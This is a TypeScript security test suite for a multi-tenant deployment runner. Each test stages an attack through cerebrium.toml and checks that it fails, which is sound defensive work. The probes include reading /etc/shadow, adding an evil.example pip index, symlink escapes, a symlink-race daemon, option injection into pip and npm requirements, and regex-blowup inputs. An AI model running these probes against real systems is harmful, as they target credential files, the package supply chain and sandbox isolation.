// Attacks through a cerebrium.toml, as a tenant with a project token who
// deploys bundles (hand-made tars, as the DeployApp API takes them): its
// include/exclude globs (applied by the runner after unpacking), its
// pre_build_commands and shell_commands (run in the build sandbox), its
// dependency tables, its hardware and its name, and the operator's pip
// index. Every deploy goes the way a real one does: unpacked and prepared by
// the deployment cache, in real bwrap sandboxes, as root. Each attack is a
// test that fails if the attack works.
//
// A pattern that takes exponential time (a glob, a version, pip's output)
// blocks the runner's one thread, which serves every tenant: each such
// deploy is run with a ticker beside it, and the longest pause between its
// ticks must stay short.
import { createServer, type Server } from "node:net";
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AppConfigError } from "../../services/apps/app-config.js";
import { BundleError, sha256 } from "../../services/apps/bundle.js";
import { parseCerebriumConfig } from "../../services/apps/cerebrium-config.js";
import { ConfigError, loadConfig } from "../../services/config/config.js";
import { silentLogger } from "../../services/config/logger.js";
import { PrepareFailed } from "../../services/runs/errors.js";
import { DeploymentCache } from "../../services/runner/deployment-cache.js";
import { appLimits } from "../../services/runner/replica-factory.js";
import { DEFAULT_SANDBOX_LIMITS } from "../../services/runner/sandbox.js";
import { configureSandbox } from "../../services/runner/sandbox-setup.js";
import type { AppLogLine } from "../../services/runner/types.js";
import { rawTar, type RawEntry } from "../helpers/raw-tar.js";

/** The longest the runner's thread may be held by one deploy's own work, ms. */
const MAX_PAUSE_MS = 1000;
/** The deploys' build uids: uids.ts's projects lie below, sandbox-argv.ts's builds from here. */
const BUILD_UIDS = [1_300_000, 2_300_000] as const;

let tmp: string;
let cache: DeploymentCache;
const logs: AppLogLine[] = [];

const MAIN_PY = "def hello():\n    return 1\n";

/** A cerebrium.toml: [cerebrium.deployment] with the name and `deployment` lines, then `rest`. */
function toml(deployment: string[] = [], rest = ""): string {
  return ["[cerebrium.deployment]", 'name = "attack"', ...deployment, "", rest].join("\n") + "\n";
}

/** A TOML array of strings. */
const list = (items: string[]) => `[${items.map((s) => JSON.stringify(s)).join(", ")}]`;

/** The CPU this process has spent, ms. */
function cpuMs(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

/**
 * Deploys a hand-made bundle; the folder or the error, and the longest the thread was held meanwhile: the
 * time between two turns of a 10 ms ticker, but no more than the CPU the process spent in it, so that a
 * machine too busy to give this process turns does not count as skiff holding its thread.
 */
async function deploy(
  entries: RawEntry[],
  project = "p-attack",
): Promise<{ dir?: string; error?: Error; pauseMs: number }> {
  const bytes = rawTar(entries);
  let last = Date.now();
  let lastCpu = cpuMs();
  let pauseMs = 0;
  const tick = () => {
    const now = Date.now();
    const cpu = cpuMs();
    pauseMs = Math.max(pauseMs, Math.min(now - last, cpu - lastCpu));
    last = now;
    lastCpu = cpu;
  };
  const ticker = setInterval(tick, 10);
  let outcome: { dir?: string; error?: Error };
  try {
    outcome = { dir: (await cache.get(sha256(bytes), async () => bytes, project)).dir };
  } catch (err) {
    outcome = { error: err as Error };
  }
  clearInterval(ticker);
  tick();
  return { ...outcome, pauseMs };
}

/** A Cortex app (main.py) with this cerebrium.toml and more entries. */
const app = (config: string, more: RawEntry[] = []): RawEntry[] => [
  { path: "cerebrium.toml", body: config },
  { path: "main.py", body: MAIN_PY },
  ...more,
];

/** The processes with a build's uid whose command line has `marker` (other sessions' builds may be running). */
async function buildProcesses(marker: string): Promise<string[]> {
  const left: string[] = [];
  for (const pid of await readdir("/proc")) {
    if (!/^\d+$/.test(pid)) continue;
    const status = await readFile(`/proc/${pid}/status`, "utf8").catch(() => "");
    const uid = Number(/^Uid:\s+(\d+)/m.exec(status)?.[1] ?? -1);
    const cmdline = await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "");
    if (uid >= BUILD_UIDS[0] && uid < BUILD_UIDS[1] && cmdline.includes(marker))
      left.push(`${pid}: ${cmdline.replaceAll("\0", " ")}`);
  }
  return left;
}

beforeAll(async () => {
  tmp = await mkdtemp(path.join(tmpdir(), "skiff-security-cerebrium-"));
  await chmod(tmp, 0o755);
  const sandbox = configureSandbox(
    {
      sandbox: "on",
      replicaMemoryMb: DEFAULT_SANDBOX_LIMITS.memoryMb,
      replicaPids: DEFAULT_SANDBOX_LIMITS.pids,
      replicaFileMb: DEFAULT_SANDBOX_LIMITS.fileMb,
      replicaTmpMb: DEFAULT_SANDBOX_LIMITS.tmpMb,
      replicaCpuSeconds: 0,
      replicaOpenFiles: DEFAULT_SANDBOX_LIMITS.openFiles,
      replicaNetwork: "none",
      maxBuildBytes: 256 * 1024 * 1024,
      maxBuildFiles: 20_000,
      maxConcurrentBuilds: 2,
      pipIndexUrl: "https://pypi.example.invalid/simple",
    },
    { warn: () => undefined, info: () => undefined },
  );
  cache = new DeploymentCache(path.join(tmp, "deployments"), {
    maxBytes: 10 * 1024 * 1024,
    logger: silentLogger,
    sandbox,
    onLog: (line) => logs.push(line),
  });
}, 60_000);

afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe("security - cerebrium.toml include/exclude globs, applied by the runner", () => {
  it("globs with .., absolute paths or through links remove nothing outside the bundle, and a link only as a link", async () => {
    const victim = path.join(tmp, "victim");
    await mkdir(victim, { recursive: true });
    await writeFile(path.join(victim, "keep.txt"), "another tenant's file\n");
    const exclude = [
      "../*",
      "../../*",
      "/*",
      `${victim}`,
      `${victim}/*`,
      "../victim/keep.txt",
      "lnk/*",
      "lnk/own.txt",
      "x",
    ];
    const { dir, error } = await deploy(
      app(toml([`exclude = ${list(exclude)}`]), [
        { path: "data/own.txt", body: "mine\n" },
        { path: "lnk", type: "SymbolicLink", linkpath: "data" },
        { path: "x", type: "SymbolicLink", linkpath: "main.py" },
      ]),
    );
    expect(error).toBeUndefined();
    expect(await readFile(path.join(victim, "keep.txt"), "utf8")).toBe("another tenant's file\n");
    // Through the link "lnk", nothing of data/ is removed; the link "x" is removed, never what it names.
    expect(await readFile(path.join(dir!, "data/own.txt"), "utf8")).toBe("mine\n");
    expect(await readlink(path.join(dir!, "lnk"))).toBe("data");
    expect(existsSync(path.join(dir!, "x"))).toBe(false);
    expect(await readFile(path.join(dir!, "main.py"), "utf8")).toBe(MAIN_PY);
  });

  it("a link in the bundle to a host file is refused before any glob runs", async () => {
    const { error } = await deploy(
      app(toml(['include = ["*"]']), [{ path: "pw", type: "SymbolicLink", linkpath: "/etc/passwd" }]),
    );
    expect(error).toBeInstanceOf(BundleError);
  });

  it("a pathological glob (many stars against a long name) takes no time: no exponential matching", async () => {
    const include = ["main.py", `${"*a".repeat(6)}*b`];
    const { dir, error, pauseMs } = await deploy(
      app(toml([`include = ${list(include)}`]), [{ path: "a".repeat(60), body: "x" }]),
    );
    expect(error).toBeUndefined();
    expect(pauseMs).toBeLessThan(MAX_PAUSE_MS);
    expect(existsSync(path.join(dir!, "a".repeat(60)))).toBe(false);
  });

  it("the costliest globs allowed against thousands of long names: the thread is given turns, and the work bounded", async () => {
    // Globs of 4089 characters (4096 at most), 2041 stars: each name costs its length times the glob's.
    const include = [`${"*a".repeat(2040)}*b`, "main.py"];
    const names = Array.from({ length: 5000 }, (_, i) => ({
      path: `${"a".repeat(120)}/${"a".repeat(90)}${i}`,
      body: "",
    }));
    const { error, pauseMs } = await deploy(app(toml([`include = ${list(include)}`]), names));
    if (error) expect(error.message).toMatch(/the include\/exclude globs take too long/);
    expect(pauseMs).toBeLessThan(MAX_PAUSE_MS);
    expect(() => parseCerebriumConfig(toml([`include = ${list(["*", "a".repeat(4096)])}`]))).toThrow(
      /cerebrium.deployment.include must have at most 4096 characters in all/,
    );
  });

  it("the same glob in packApp's selection is as quick (skiff deploy packs with it)", async () => {
    const { fileSelection } = await import("../../services/apps/bundle.js");
    const selected = fileSelection({ include: [`${"*a".repeat(20)}*b`], exclude: [`${"?*".repeat(30)}c`] });
    const started = Date.now();
    expect(selected(`${"a/".repeat(200)}a`)).toBe(false);
    expect(selected("a".repeat(4000))).toBe(false);
    expect(selected(`${"a".repeat(30)}b`)).toBe(true);
    expect(Date.now() - started).toBeLessThan(MAX_PAUSE_MS);
  });

  it("a glob with a character range out of order is a glob that matches nothing, not an internal error", async () => {
    const { dir, error } = await deploy(
      app(toml([`include = ${list(["[z-a]*", "main.py", "[!]", "[", "]"])}`]), [{ path: "zed.txt", body: "z" }]),
    );
    expect(error).toBeUndefined();
    expect(existsSync(path.join(dir!, "zed.txt"))).toBe(false);
    expect(existsSync(path.join(dir!, "main.py"))).toBe(true);
  });
});

describe("security - cerebrium.toml build commands run in the build sandbox, and nothing of them lasts", () => {
  let listener: Server;
  let port = 0;
  beforeAll(async () => {
    listener = createServer((s) => s.end("LEAK-tcp\n"));
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    port = (listener.address() as { port: number }).port;
  });
  afterAll(() => listener.close());

  it("they reach no host file, no listener of the host (NATS, skiff's port), no data folder, no other build", async () => {
    const secret = path.join(tmp, "data-secret");
    await writeFile(secret, "LEAK-data\n", { mode: 0o600 });
    const probe = [
      "exec > /app/probe.txt 2>&1",
      "cat /etc/shadow && echo LEAK-shadow",
      "echo index-url=https://evil.example >> /etc/pip.conf && echo LEAK-pipconf",
      "touch /usr/leak /etc/leak /leak && echo LEAK-write",
      `cat ${secret}`,
      `ls ${cache.root} && echo LEAK-cache`,
      "ls /run/skiff-sandbox && echo LEAK-neutral",
      "ls /root && echo LEAK-root",
      `python3 -c "import socket; s=socket.create_connection(('127.0.0.1', ${port}), 2); print(s.recv(100))"`,
      // Only its own processes: none of another build's or the host's.
      "cat /proc/[0-9]*/cmdline > /app/procs.txt 2>/dev/null",
      "exit 0",
    ].join("\n");
    const { dir, error } = await deploy(app(toml([`shell_commands = ${list([probe])}`])));
    expect(error).toBeUndefined();
    const seen = await readFile(path.join(dir!, "probe.txt"), "utf8");
    expect(seen).not.toContain("LEAK");
    // The build's pid namespace: bwrap's init, the shell and its pipeline, nothing of the host.
    expect(await readFile(path.join(dir!, "procs.txt"), "utf8")).not.toMatch(/node|nats|vitest|skiff-launch/);
    expect(existsSync("/usr/leak") || existsSync("/etc/leak") || existsSync("/leak")).toBe(false);
    expect(await readFile("/etc/pip.conf", "utf8").catch(() => "")).not.toContain("evil.example");
  });

  it("link chains and loops are kept as links; links to /proc/self, host files or climbing are refused", async () => {
    const chains = "ln -s b a && ln -s a b && ln -s c2 c1 && ln -s c3 c2 && ln -s /usr/bin/env c3 && ln -s loop loop";
    const { dir, error } = await deploy(app(toml([`shell_commands = ${list([chains])}`])));
    expect(error).toBeUndefined();
    expect(await readlink(path.join(dir!, "a"))).toBe("b");
    expect(await readlink(path.join(dir!, "c3"))).toBe("/usr/bin/env");
    for (const [command, why] of [
      ["ln -s /proc/self/root/etc/shadow p", /"p", a link with a target outside the app folder/],
      ["ln -s /proc/self/cwd p", /"p", a link with a target outside the app folder/],
      ["ln -s /etc/passwd h", /"h", a link with a target outside/],
      [
        "mkdir d && ln -s /usr d/u && ln -s u/../../etc/shadow d/x",
        /"d\/x", a link with a target through another link/,
      ],
      ["ln -s /usr/lib/../../etc/shadow up", /"up", a link with a target that climbs/],
      ["ln -s y z && ln -s ../../../../etc y", /"y", a link with a target outside/],
    ] as const) {
      const r = await deploy(app(toml([`shell_commands = ${list([command])}`])));
      expect(r.error, command).toBeInstanceOf(PrepareFailed);
      expect(r.error!.message, command).toMatch(why);
    }
  });

  it(".skiff turned into a link to a system folder: refused, nothing written there by root", async () => {
    const { error } = await deploy(
      app(toml([`shell_commands = ${list(["rm -rf .skiff && ln -s /usr/share .skiff"])}`])),
    );
    expect(error).toBeInstanceOf(BundleError);
    expect(existsSync("/usr/share/prepared.json")).toBe(false);
  });

  it("pre_build_commands turn .skiff into a link to a host folder: skiff writes nothing there as root", async () => {
    // skiff writes the inline pip requirements into the build's .skiff: after the tenant's first commands ran,
    // root's open() would follow the link (O_NOFOLLOW guards only the last part of a path).
    const victim = path.join(tmp, "victim-skiff");
    await mkdir(victim, { recursive: true });
    const { error } = await deploy(
      app(
        toml(
          [`pre_build_commands = ${list([`rm -rf .skiff && ln -s ${victim} .skiff`])}`],
          `[cerebrium.dependencies.pip]\nskiff-attack-missing = "1.0"\n`,
        ),
      ),
    );
    expect(error).toBeInstanceOf(PrepareFailed);
    expect(await readdir(victim)).toEqual([]);
  });

  it("pre_build_commands turn package-lock.json into a link to a host file: root neither reads nor tells of it", async () => {
    // skiff chose `npm ci` when package-lock.json could be read, as root, through whatever the tenant left there:
    // a link to a host file told whether it exists (and a FIFO would hold a build slot forever).
    const outcome = async (target: string) => {
      const { error } = await deploy(
        app(toml([`pre_build_commands = ${list([`ln -sf ${target} package-lock.json`])}`]), [
          {
            path: "package.json",
            body: JSON.stringify({ name: "x", private: true, dependencies: { dep: "file:./dep" } }),
          },
          { path: "dep/package.json", body: JSON.stringify({ name: "dep", version: "1.0.0" }) },
        ]),
      );
      return error?.message.replace(/, code [A-Z_]+/, "");
    };
    const [present, absent] = [await outcome("/etc/shadow"), await outcome("/etc/skiff-no-such-file")];
    expect(present).toBe(absent);
    expect(present ?? "").not.toMatch(/^npm ci/);
  });

  it("a tree deeper than the host's longest path: refused as the build's fault, nothing left", async () => {
    const deep = `python3 -c "import os; [(os.mkdir('a' * 200), os.chdir('a' * 200)) for i in range(40)]; open('f', 'w').write('x')"`;
    const { error } = await deploy(app(toml([`shell_commands = ${list([deep])}`])));
    expect(error).toBeInstanceOf(PrepareFailed);
    expect(error!.message).toMatch(/^the build left "a{200}", a path longer than this machine allows/);
    expect(error!.message).not.toContain(tmp);
    expect((await readdir(cache.root)).filter((n) => n.startsWith(".staging-") || n.endsWith(".build"))).toEqual([]);
    expect(await readFile("/proc/self/mounts", "utf8")).not.toContain(cache.root);
  });

  it("a command or entrypoint with a NUL byte is refused as the config's fault, not an internal error", async () => {
    const { error } = await deploy(app(toml(['shell_commands = ["echo a\\u0000b"]'])));
    expect(error).toBeInstanceOf(AppConfigError);
    expect(() =>
      parseCerebriumConfig(toml([], '[cerebrium.runtime.custom]\nentrypoint = ["python3", "a\\u0000b"]\n')),
    ).toThrow(AppConfigError);
  });

  it("a pre_build_command's daemon does not outlive the build, nor change the output after the check", async () => {
    const daemon =
      "(setsid sh -c 'while :; do ln -sfn /etc/shadow swap 2>/dev/null; rm -f swap; done # skiff-daemon-marker' > /dev/null 2>&1 &)";
    const { dir, error } = await deploy(
      app(toml([`pre_build_commands = ${list([daemon])}`, `shell_commands = ${list(["sleep 1"])}`])),
    );
    // Either the check saw the link (refused) or not (deployed without it): never a link kept to the host.
    if (!error) expect(existsSync(path.join(dir!, "swap")) && (await lstat(path.join(dir!, "swap")))).toBe(false);
    else expect(error).toBeInstanceOf(PrepareFailed);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await buildProcesses("skiff-daemon-marker")).toEqual([]);
  });

  it("what a deploy's commands print goes to the app's log within a bound: one deploy cannot push out every tenant's logs", async () => {
    // The logs of every app share one stream that drops its oldest lines first.
    const noisy = "head -c 2000000 /dev/zero | tr '\\0' 'a' | fold -w 1000";
    const before = logs.length;
    const { error } = await deploy(
      app(toml([`shell_commands = ${list(Array.from({ length: 10 }, (_, i) => `${noisy} # ${i}`))}`])),
      "p-noisy",
    );
    expect(error).toBeUndefined();
    const mine = logs.slice(before).filter((l) => l.projectId === "p-noisy");
    expect(mine.reduce((n, l) => n + l.text.length, 0)).toBeLessThan(1.1 * 1024 * 1024);
    expect(mine.at(-1)?.text).toMatch(/is not in the app's log/);
  });

  it("the output a build command writes is read at a bounded rate: a flood does not hold the thread", async () => {
    const { error, pauseMs } = await deploy(
      app(toml([`shell_commands = ${list(["head -c 20000000 /dev/zero | tr '\\0' 'a' ; exit 3"])}`])),
    );
    expect(error).toBeInstanceOf(PrepareFailed);
    expect(error!.message.length).toBeLessThan(5000);
    expect(pauseMs).toBeLessThan(MAX_PAUSE_MS);
  });
});

describe("security - cerebrium.toml dependencies", () => {
  it("pip and npm requirements that pip or npm would read as options, URLs, paths or second lines are refused", () => {
    const pip = [
      `"--index-url" = "https://evil.example/simple"`,
      `"-i" = "latest"`,
      `"-e" = "git+https://evil.example/x"`,
      `"-r" = "/etc/shadow"`,
      `"git+https://evil.example/x" = "latest"`,
      `"file:///etc/passwd" = "latest"`,
      `"./pkg" = "latest"`,
      `"a\\nb" = "latest"`,
      `x = "==1\\n--index-url https://evil.example/simple"`,
      `x = "@ file:///etc/passwd"`,
      `x = "@ https://evil.example/x.whl"`,
      `x = "==1; os_name == 'posix'"`,
      `x = "==1 --hash=sha256:00"`,
      `x = "1 -i https://evil.example"`,
      `x = "--pre"`,
    ];
    for (const line of pip) {
      const text = toml([], `[cerebrium.dependencies.pip]\n${line}\n`);
      expect(() => parseCerebriumConfig(text), line).toThrow(AppConfigError);
    }
    for (const line of [
      `"--registry" = "https://evil.example"`,
      `x = "file:../../etc"`,
      `x = "https://evil.example/x.tgz"`,
      `"git+https://evil.example/x" = "1"`,
      `x = "1\\n2"`,
    ]) {
      const text = toml([], `[cerebrium.dependencies.npm]\n${line}\n`);
      expect(() => parseCerebriumConfig(text), line).toThrow(AppConfigError);
    }
  });

  it("a pip version made to match exponentially is refused at once", async () => {
    const { error, pauseMs } = await deploy(app(toml([], `[cerebrium.dependencies.pip]\nx = "${"!".repeat(44)}#"\n`)));
    expect(error).toBeInstanceOf(AppConfigError);
    expect(pauseMs).toBeLessThan(MAX_PAUSE_MS);
    const started = Date.now();
    expect(() => parseCerebriumConfig(toml([], `[cerebrium.dependencies.pip]\nx = "${"!=".repeat(60)}!#"\n`))).toThrow(
      AppConfigError,
    );
    expect(Date.now() - started).toBeLessThan(MAX_PAUSE_MS);
    // What pip reads is still read.
    const ok = parseCerebriumConfig(
      toml([], `[cerebrium.dependencies.pip]\na = ">=2, <3"\nb = "~=1.0"\nc = "1!2.0"\nd = "===1.0"\ne = "!=1.5"\n`),
    );
    expect(ok.config.build?.pip).toEqual(["a>=2,<3", "b~=1.0", "c==1!2.0", "d===1.0", "e!=1.5"]);
  });

  it("pip output made to match exponentially (the tenant controls what pip prints) does not hold the thread", async () => {
    // `python -m pip` runs from /app: the bundle's own pip/ answers, as the tenant wants.
    const line = `ERROR: No matching distribution found for a${"!".repeat(44)}#`;
    const { error, pauseMs } = await deploy(
      app(toml([], `[cerebrium.dependencies.pip]\nskiff-attack-missing = "1.0"\n`), [
        { path: "pip/__init__.py", body: "" },
        { path: "pip/__main__.py", body: `import sys\nprint(${JSON.stringify(line)}, file=sys.stderr)\nsys.exit(1)\n` },
      ]),
    );
    expect(error).toBeInstanceOf(PrepareFailed);
    expect(error!.message).toMatch(/^could not install the Python requirements \(pip exited with 1\)/);
    expect(pauseMs).toBeLessThan(MAX_PAUSE_MS);
  });

  it("paths.pip outside the folder, absolute, a link or a folder: refused without reading it", async () => {
    for (const p of ["../outside.txt", "/etc/shadow", "a/../../x"]) {
      const { error } = await deploy(app(toml([], `[cerebrium.dependencies.paths]\npip = "${p}"\n`)));
      expect(error, p).toBeInstanceOf(AppConfigError);
    }
    for (const p of ["reqs-link", "data"]) {
      const { error } = await deploy(
        app(toml([], `[cerebrium.dependencies.paths]\npip = "${p}"\n`), [
          { path: "reqs.txt", body: "--no-index\n" },
          { path: "reqs-link", type: "SymbolicLink", linkpath: "reqs.txt" },
          { path: "data/f", body: "" },
        ]),
      );
      expect(error, p).toBeInstanceOf(PrepareFailed);
      expect(error!.message, p).toMatch(/not a file of the app/);
    }
  });

  it("apt and conda names are looked up, never read as paths or options; paths.apt through a link is refused", async () => {
    const { error } = await deploy(
      app(toml([], `[cerebrium.dependencies]\napt = ["a/../../../etc/shadow", "--help", "coreutils"]\n`)),
    );
    expect(error).toBeInstanceOf(AppConfigError); // "--help" is not a package name
    const r = await deploy(app(toml([], `[cerebrium.dependencies]\napt = ["a/../../../etc/shadow", "coreutils"]\n`)));
    expect(r.error).toBeInstanceOf(PrepareFailed);
    expect(r.error!.message).toMatch(/apt: a\/\.\.\/\.\.\/\.\.\/etc\/shadow\)/);
    const linked = await deploy(
      app(toml([], `[cerebrium.dependencies.paths]\napt = "apt.txt"\n`), [
        { path: "real.txt", body: "coreutils\n" },
        { path: "apt.txt", type: "SymbolicLink", linkpath: "real.txt" },
      ]),
    );
    expect(linked.error).toBeInstanceOf(PrepareFailed);
    expect(linked.error!.message).toMatch(/not a file of the app/);
  });

  it("a huge list of apt or conda names is refused like a huge table", () => {
    const names = Array.from({ length: 5000 }, (_, i) => `pkg${i}`);
    for (const kind of ["apt", "conda"])
      expect(() => parseCerebriumConfig(toml([], `[cerebrium.dependencies]\n${kind} = ${list(names)}\n`))).toThrow(
        /at most 1000/,
      );
  });
});

describe("security - cerebrium.toml hardware and names", () => {
  it("odd cpu and memory values are refused; a large memory is capped at SKIFF_REPLICA_MEMORY_MB", () => {
    for (const v of ["0", "-1", "nan", "inf", "-inf", "1e309", '"4"', "1e12", "0.001", "[]"]) {
      for (const key of ["cpu", "memory"]) {
        const text = toml([], `[cerebrium.hardware]\n${key} = ${v}\n`);
        expect(() => parseCerebriumConfig(text), `${key} = ${v}`).toThrow(AppConfigError);
      }
    }
    const { config } = parseCerebriumConfig(toml([], "[cerebrium.hardware]\nmemory = 4096.0\ncpu = 1024\n"));
    const limits = { ...DEFAULT_SANDBOX_LIMITS, memoryMb: 2048 };
    expect(appLimits(limits, config.resources).memoryMb).toBe(2048);
    expect(appLimits(limits, { memoryMb: 1 }).memoryMb).toBe(1);
  });

  it("names that are not plain lowercase words are refused: no subject, key or path separators", () => {
    for (const name of ["Foo", "a.b", "a>b", "a*", "-a", "a/b", "..", "../x", "", "a b", "a\nb", "a".repeat(64), "é"])
      expect(() => parseCerebriumConfig(`[cerebrium.deployment]\nname = ${JSON.stringify(name)}\n`), name).toThrow(
        AppConfigError,
      );
    for (const name of ["1app", "0", "cortex", "skiff", "admin"])
      expect(parseCerebriumConfig(`[cerebrium.deployment]\nname = "${name}"\n`).config.app.name).toBe(name);
  });
});

describe("security - the configuration file itself", () => {
  it("a table of 400,000 dotted parts is read in bounded time and memory (every prefix was a key: quadratic)", () => {
    // Before: 30,000 parts took 12 s and 1 GB on the runner's thread; 100,000 ended the process (heap).
    const text = `[cerebrium.deployment]\nname = "deep"\n[${"a.".repeat(400_000)}b]\nk = 1\n`;
    const heap = process.memoryUsage().heapUsed;
    const started = Date.now();
    const { warnings } = parseCerebriumConfig(text);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(process.memoryUsage().heapUsed - heap).toBeLessThan(1024 * 1024 * 1024);
    expect(warnings.join("\n")).toMatch(/cerebrium\.toml:\d+: a is not a table skiff knows/);
  });
});

describe("security - a cerebrium.toml's warnings", () => {
  it("100,000 unknown keys make a bounded number of warnings (each a line of the app's log and the answer)", () => {
    const keys = Array.from({ length: 100_000 }, (_, i) => `k${i} = 1`).join("\n");
    const { warnings } = parseCerebriumConfig(toml([], `[cerebrium.hardware]\n${keys}\n`));
    expect(warnings.length).toBeLessThanOrEqual(101);
    expect(warnings.at(-1)).toMatch(/99900 more warnings/);
  });
});

describe("security - the operator's pip index", () => {
  it("a build sees the index skiff gives pip, so an index URL with a password is refused at start", async () => {
    // What pip reads, the tenant's code (a package's setup.py, a build command) reads too.
    const { dir, error } = await deploy(app(toml([`shell_commands = ${list(['echo "$PIP_INDEX_URL" > seen.txt'])}`])));
    expect(error).toBeUndefined();
    expect(await readFile(path.join(dir!, "seen.txt"), "utf8")).toBe("https://pypi.example.invalid/simple\n");
    for (const [variable, value] of [
      ["SKIFF_PIP_INDEX_URL", "https://operator:secret@pypi.example/simple"],
      ["SKIFF_PIP_INDEX_URL", "https://token@pypi.example/simple"],
      ["SKIFF_PIP_EXTRA_INDEX_URL", "https://a.example/simple https://u:p@b.example/simple"],
    ]) {
      let err: unknown;
      try {
        loadConfig({ [variable]: value });
      } catch (e) {
        err = e;
      }
      expect(err, value).toBeInstanceOf(ConfigError);
      expect((err as Error).message).not.toContain("secret");
    }
  });

  it("a tenant's config cannot set the index: no [env] in cerebrium.toml, and index options are not requirements", () => {
    const { config } = parseCerebriumConfig(toml([], '[cerebrium.env]\nPIP_INDEX_URL = "https://evil.example"\n'));
    expect(Object.keys(config.env)).toEqual([]);
  });
});
